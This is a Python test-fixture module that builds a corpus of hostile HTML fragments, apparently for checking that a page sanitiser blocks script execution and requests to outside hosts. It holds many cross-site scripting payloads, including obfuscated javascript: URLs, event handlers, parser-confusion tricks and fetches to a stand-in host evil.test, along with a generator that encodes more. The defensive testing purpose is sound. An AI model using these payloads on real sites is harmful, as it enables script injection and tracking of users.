"""HTML that runs something or tells another host, in as many ways of writing it as we know.

`FRAGMENTS` are written by hand, `generated` composes more. What runs calls hit(), what asks another
host names //evil.test, so that tests/browser/test_hostile_text.py sees either.
"""

import random

FRAGMENTS = [
    # Scripts
    "<script>hit()</script>",
    '<script src="https://evil.test/x.js"></script>',
    '<script src="//evil.test/x.js" src="../assets/calculator.js" type="module"></script>',
    '<script type="text/javascript" type="application/json">hit()</script>',
    '<script type="application/json" type="text/javascript">{}</script><script>hit()</script>',
    "<SCRIPT\n>hit()</SCRIPT >",
    "<script/x>hit()</script/x>",
    "<script>/*</script><p>*/</p><script>hit()</script>",
    '<script type="module">hit()</script>',
    '<script type="text/ecmascript">hit()</script>',
    '<script defer src="data:text/javascript,hit()"></script>',
    "<svg><script>hit()</script></svg>",
    '<svg><script href="data:text/javascript,hit()"></script></svg>',
    "<math><mtext><script>hit()</script></mtext></math>",
    '<script type="importmap">{"imports": {"x": "//evil.test/x.js"}}</script>',
    # Handlers
    '<img src="x.png" onerror="hit()">',
    '<img src="x.png" onerror = "hit()">',
    '<img src="x.png"onerror="hit()">',
    "<img/src='x.png'/onerror=hit()>",
    "<img src=x.png\nonerror\n=\nhit()>",
    "<img src=x.png oNeRrOr=hit()>",
    "<img src=x.png onerror='&#104;it&lpar;&rpar;'>",
    '<img alt="<p title=" src=x.png onerror=hit()>',
    '<img srcset="x.png 1x" onerror="hit()">',
    "<p onmouseover=hit()>text</p>",
    "<x-y onclick=hit()>text</x-y>",
    "<a:b onclick=hit()>text</a:b>",
    '<h2 onclick="hit()" id="summary">text</h2>',
    "<details open ontoggle=hit()><summary>text</summary></details>",
    "<details open/ontoggle=hit()>text</details>",
    "<input autofocus onfocus=hit()>",
    "<button type=button onfocus=hit() autofocus>text</button>",
    "<p tabindex=0 onfocus=hit()>text</p>",
    "<svg onload=hit()></svg>",
    "<svg><g onclick=hit()><rect width=90 height=90></rect></g></svg>",
    '<svg><animate onbegin=hit() attributeName="x" dur="1s"></animate></svg>',
    "<video><source onerror=hit() src=x.mp4></video>",
    "<audio src=x.mp3 onerror=hit()></audio>",
    "<body onload=hit()>",
    "<body onclick=hit()>text",
    "<html onclick=hit()>text",
    "<marquee onstart=hit()>text</marquee>",
    "<style onload=hit()>p { color: red }</style>",
    "<select autofocus onfocus=hit()><option>a</option></select>",
    "<div hidden=until-found onbeforematch=hit() onclick=hit()>text</div>",
    '<div style="animation: x 1s" onanimationstart="hit()" onclick="hit()">text</div>',
    "<object data=x onerror=hit()></object>",
    "<img src=x.png\fonerror=hit()>",
    # Addresses that are code
    '<a href="javascript:hit()">text</a>',
    '<a href=" JavaScript:hit()">text</a>',
    '<a href="java&#115;cript:hit()">text</a>',
    '<a href="java&Tab;script:hit()">text</a>',
    '<a href="java&NewLine;script:hit()">text</a>',
    '<a href="javascript&colon;hit()">text</a>',
    '<a href="&#1;javascript:hit()">text</a>',
    '<a href="\x01javascript:hit()">text</a>',
    '<a href="https:" href="x" href="javascript:hit()">text</a><a href=javascript:hit()>b</a>',
    '<a href="data:text/html,x">text</a>',
    '<a href="vbscript:x">text</a>',
    '<a href="blob:https://evil.test/x">text</a>',
    '<svg><a xlink:href="javascript:hit()"><text y="20">text</text></a></svg>',
    '<svg><a href="javascript:hit()"><text y="20">text</text></a></svg>',
    '<form action="javascript:hit()"><input type="submit" value="go"></form>',
    '<form><button formaction="javascript:hit()">text</button></form>',
    '<math><mtext href="javascript:hit()">text</mtext></math>',
    # Pages in pages
    '<iframe src="page.html"></iframe>',
    "<iframe/src='//evil.test'></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.hit()"></iframe>',
    '<object data="//evil.test/x"></object>',
    '<embed src="//evil.test/x">',
    "<svg><foreignObject><iframe src='//evil.test'></iframe></foreignObject></svg>",
    '<portal src="//evil.test"></portal>',
    "<frameset><frame src='//evil.test'></frameset>",
    # Whatever fetches from another host
    '<img src="https://evil.test/count.gif">',
    "<img src='//evil.test/count.gif'>",
    '<img src="\\\\evil.test/count.gif">',
    '<img src="/\\evil.test/count.gif">',
    '<img src="/&#9;/evil.test/count.gif">',
    '<img src="http:\\\\evil.test/count.gif">',
    '<img src=" //evil.test/count.gif">',
    '<img src="x.png" srcset="//evil.test/count.gif 1x">',
    '<picture><source srcset="//evil.test/count.gif"><img src="x.png"></picture>',
    '<image src="//evil.test/count.gif">',
    '<input type="image" src="//evil.test/count.gif">',
    '<video poster="//evil.test/count.gif"></video>',
    '<video src="//evil.test/x.mp4" autoplay muted></video>',
    '<audio src="//evil.test/x.mp3" autoplay></audio>',
    '<track src="//evil.test/x">',
    '<table background="//evil.test/count.gif"><tr><td>a</td></tr></table>',
    '<body background="//evil.test/count.gif">',
    '<p style="background:url(//evil.test/count.gif)">text</p>',
    "<p style=\"background:u\\rl('//evil.test/count.gif')\">text</p>",
    '<p style="background:&#117;rl(//evil.test/count.gif)">text</p>',
    "<p style=\"background:image-set('//evil.test/count.gif' 1x)\">text</p>",
    "<style>p { background: url(//evil.test/count.gif) }</style>",
    "<style>@import '//evil.test/x.css'</style>",
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    '<link rel=preload as=image href="//evil.test/x.png">',
    '<link rel="icon" href="//evil.test/x.png">',
    '<link rel="stylesheet" href="../assets/lab/lab.css" onload="hit()">',
    '<a href="https://example.org/" ping="//evil.test/ping">text</a>',
    '<svg><image href="//evil.test/x.png" width="9" height="9"></image></svg>',
    '<svg><use href="//evil.test/x.svg#a"></use></svg>',
    '<svg><rect width="9" height="9" fill="url(//evil.test/x.svg#a)"></rect></svg>',
    "<svg><style>rect { fill: url(//evil.test/x.svg) }</style></svg>",
    '<meta http-equiv="refresh" content="0; url=//evil.test">',
    '<base href="//evil.test/">',
    '<form action="//evil.test"><input name="a"></form>',
    "<form action='https://evil.test'></form>",
    '<pre class="mermaid"><code>graph LR</code></pre>',
    # What takes the rest of the page along, or hides from a parser
    "</article><script>hit()</script>",
    "</div></div></div></main><script>hit()</script>",
    "</p></div><p>text",
    "<!-- <script> --><script>hit()</script>",
    "<!--><script>hit()</script>-->",
    "<!--",
    "<!-- text -->",
    "<![CDATA[<img src=x.png onerror=hit()>]]>",
    "<?x <img src=x.png onerror=hit()>?>",
    "<textarea>",
    "<textarea></textarea><img src=x.png onerror=hit()>",
    "<title><img title='</title><img src=x.png onerror=hit()>'>",
    "<plaintext>",
    "<xmp><p title='</xmp><img src=x.png onerror=hit()>'></xmp>",
    "<template><img src=x.png onerror=hit()></template>",
    '<template shadowrootmode="open"><img src="x.png" onerror="hit()"></template>',
    '<noscript><p title="</noscript><img src=x.png onerror=hit()>"></noscript>',
    "<noscript><style></noscript><img src=x.png onerror=hit()></style>",
    "<noembed><img title='</noembed><img src=x.png onerror=hit()>'></noembed>",
    "<svg><p><style><img src='</style><img src=x.png onerror=hit()>'></style></p></svg>",
    '<math><mtext><table><mglyph><style><img src="</style><img src=x.png onerror=hit()>">',
    "<svg></p><style><g title='</style><img src=x.png onerror=hit()>'>",
    "<b><div>text</b>",
    '<a href="https://example.org/">text',
    "<div>text",
    '<p title="text',
    '<p title="a > ReLU <img src=x.png onerror=hit()>">text</p>',
    '<input form="x" value="&lt;img src=x onerror=hit()&gt;">',
    '<p is="x-y">text</p>',
    '<p slot="x">text</p>',
    # What steers the page around the text
    '<label for="__search">text</label>',
    '<div class="md-overlay">text</div>',
    '<div data-md-component="announce">text</div>',
    '<p style="position:fixed;inset:0">text</p>',
    '<p id="__palette">text</p>',
    "<dialog open>text</dialog>",
    '<button popovertarget="x">text</button>',
    '<button commandfor="x" command="show-modal">text</button>',
    "<p contenteditable>text</p>",
    '<div class="ablation" data-order="a">text</div>',
]

HARMLESS = [
    '<a href="https://example.org/">a</a> <img src="../x.png" alt="on"> <code>&lt;b&gt;</code>',
    '<a href="mailto:a@example.org" title="onclick=hit()">a</a>',
    '<a href="lenet.md#conv1">a</a> <a href="#a:b">b</a> <a href="../image/?a=b:c#d">c</a>',
    "<p>javascript:hit() onerror=hit() //evil.test</p>",
    "<p>a &lt; b, 1 < 2</p>",
    "<ul><li>one<li>two</ul>",
    "<P CLASS=message>text</P>",
    "<img/src=x.png/onerror=hit()>",
    '<img title=a>b" src=x.png onerror=hit()>',
    '<table><tr><td style="text-align: right;">1</td></tr></table>',
    "<noscript><p>text</p></noscript>",
    "<details open><summary>a</summary><p>b</p></details>",
    '<div class="admonition note"><p class="admonition-title">a</p></div>',
    '<img src="a%20b.png" alt="&quot;a&quot;">',
]

_TAGS = (
    "a abbr b button code details div em form h2 iframe img input kbd li link mark object p pre "
    "script span strong style sub summary svg table td textarea use video x-y"
)
_ATTRIBUTES = (
    "action alt autofocus background class data data-show dir formaction href hreflang id lang "
    "name onclick onerror onfocus onload onmouseover onpointerenter ontoggle open ping poster rel "
    "role src srcdoc srcset start style tabindex target title type width xlink:href"
)
_MILD = "alt class href id title title"
"""What most elements may have, so that enough is harmless to be tried in a browser."""
_VALUES = [
    "",
    "0",
    "1",
    "text",
    "a b",
    "note",
    "figure-slot",
    "mermaid",
    "x.png",
    "../x.png?a=b",
    "ReLU",
    "#summary",
    "https://evil.test/x",
    "//evil.test/x",
    "\\\\evil.test\\x",
    "/\\evil.test/x",
    "javascript:hit()",
    "hit()",
    "data:text/html,<script>parent.hit()</script>",
    "data:image/png;base64,AA==",
    "background:url(//evil.test/x)",
    "text-align: right",
    "text-align: url(//evil.test/x)",
    "button",
    "number",
    "x onclick=hit()",
    "<img src=x.png onerror=hit()>",
    '"><img src=x.png onerror=hit()>',
]


def generated(count: int, seed: int = 21) -> list[str]:
    """Elements with one to three attributes, written in one of many ways; the same each time.

    About one in eight is harmless.
    """
    chance = random.Random(seed)
    return [_element(chance) for _ in range(count)]


def _element(chance: random.Random) -> str:
    tag = _cased(chance.choice(_TAGS.split()), chance)
    attributes = []
    for _ in range(chance.choice([1, 1, 1, 2, 3])):
        name = _cased(chance.choice(chance.choice([_ATTRIBUTES, _MILD]).split()), chance)
        value = _encoded(chance.choice(_VALUES), chance)
        equals = chance.choice(["=", "=", "=", " = ", "\n=\t"])
        quote = chance.choice(['"', '"', "'", ""])
        if quote == '"':
            value = value.replace('"', "&quot;")
        elif quote == "":
            value = "".join(f"&#{ord(c)};" if c in " \t\n\r\f>\"'" else c for c in value) or "x"
        attributes.append(f"{name}{equals}{quote}{value}{quote}")
    start = chance.choice([" ", " ", "\n", "/", "\t", " / "])
    between = chance.choice([" ", " ", "\n", "\f", " /"])
    inside = chance.choice(["text", "text", "", "<b>text</b>", "text</b>"])
    return f"<{tag}{start}{between.join(attributes)}>{inside}</{tag}>"


def _cased(word: str, chance: random.Random) -> str:
    kind = chance.randrange(6)
    if kind == 0:
        return word.upper()
    return "".join(chance.choice([c, c.upper()]) for c in word) if kind == 1 else word


def _encoded(value: str, chance: random.Random) -> str:
    """Some of its characters as references, or with what browsers leave out of addresses."""
    kind = chance.randrange(8)
    if kind == 0:
        return "".join(f"&#{ord(c)};" if chance.random() < 0.3 else c for c in value)
    if kind == 1:
        return "".join(f"&#x{ord(c):X};" if chance.random() < 0.3 else c for c in value)
    if kind == 2 and ":" in value:
        return value.replace(":", "&colon;", 1)
    if kind == 3 and value:
        place = chance.randrange(len(value))
        return value[:place] + chance.choice(["&Tab;", "&NewLine;", "\n", "\x01"]) + value[place:]
    return value
